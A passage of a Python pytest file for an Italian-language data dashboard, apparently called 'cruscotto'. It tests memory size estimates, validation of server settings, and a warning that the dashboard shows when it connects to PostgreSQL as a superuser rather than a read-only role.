        go_on.set()
        thread.join(5)
        assert results[-1] == 2 * n and (slow.made(n) is not None) == kept  # type: ignore[attr-defined]


def test_size_estimates_count_numbers_exactly_and_shared_parts_once() -> None:
    numbers = np.arange(1000, dtype="int64")
    frame = pd.DataFrame({"a": numbers, "b": numbers.astype("float64")})
    assert size_of(numbers) == 8000
    assert 16_000 <= size_of(frame) <= 16_000 + 1000
    assert size_of((numbers, numbers)) < 2 * 8000


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("[server]\npages_at_once = -1\n", "server.pages_at_once"),
        ('[server]\ncache_mb = "molti"\n', "server.cache_mb"),
        ("[server]\nworkers = 2\n", "server.workers"),
        ('[server]\nread_at_start = "sì"\n', "server.read_at_start"),
        ("[server]\nread_at_start = 1\n", "server.read_at_start"),
        ("[server]\nrefresh_minutes = -5\n", "server.refresh_minutes"),
    ],
)
def test_server_limits_are_checked(tmp_path: Path, text: str, key: str) -> None:
    from data.settings import ConfigError, load_settings

    config = tmp_path / "cruscotto.toml"
    config.write_text(text)
    with pytest.raises(ConfigError) as raised:
        load_settings(config, env={}, secrets_path="/nonexistent")
    assert raised.value.key == key
    config.write_text("[server]\npages_at_once = 3\ncache_mb = 2048\n")
    limits = load_settings(config, env={}, secrets_path="/nonexistent").server
    assert (limits.pages_at_once, limits.cache_mb, limits.read_at_start) == (3, 2048, True)
    assert limits.refresh_minutes == 10
    config.write_text("[server]\nread_at_start = false\nrefresh_minutes = 0\n")
    limits = load_settings(config, env={}, secrets_path="/nonexistent").server
    assert not limits.read_at_start and limits.refresh_minutes == 0


def test_a_postgresql_user_that_may_do_more_than_read_is_pointed_out(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from data.settings import load_settings
    from data.source import Source
    from tests.conftest import _url_for

    url = _url_for("postgresql", tmp_path, request, "privileges")
    write_demo(url, customers=100, seed=2)
    settings = load_settings(None, env={}, secrets_path="/nonexistent")
    assert "superuser" in Source(settings=settings, url=url).broad_privileges()  # the test server's user
    role = f"reader_{uuid.uuid4().hex[:8]}"
    admin = sa.create_engine(url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f"CREATE ROLE {role} LOGIN"))
        conn.execute(sa.text(f"GRANT SELECT ON ALL TABLES IN SCHEMA public TO {role}"))
    try:
        reader = sa.engine.make_url(url).set(username=role, password=None).render_as_string(hide_password=False)
        assert Source(settings=settings, url=reader).broad_privileges() == []
        config = tmp_path / "cruscotto.toml"
        config.write_text("")
        monkeypatch.setenv("CRUSCOTTO_CONFIG", str(config))
        for address, warned in ((url, True), (reader, False)):
            monkeypatch.setenv("CRUSCOTTO_DB_URL", address)
            at = AppTest.from_file(APP, default_timeout=90)
            at.run()
            at.switch_page("pages/dati.py").run()
            assert not at.exception
            assert any("superutente" in w.value for w in at.warning) is warned
    finally:
        with admin.connect() as conn:
            conn.execute(sa.text(f"DROP OWNED BY {role}"))
            conn.execute(sa.text(f"DROP ROLE {role}"))
        admin.dispose()
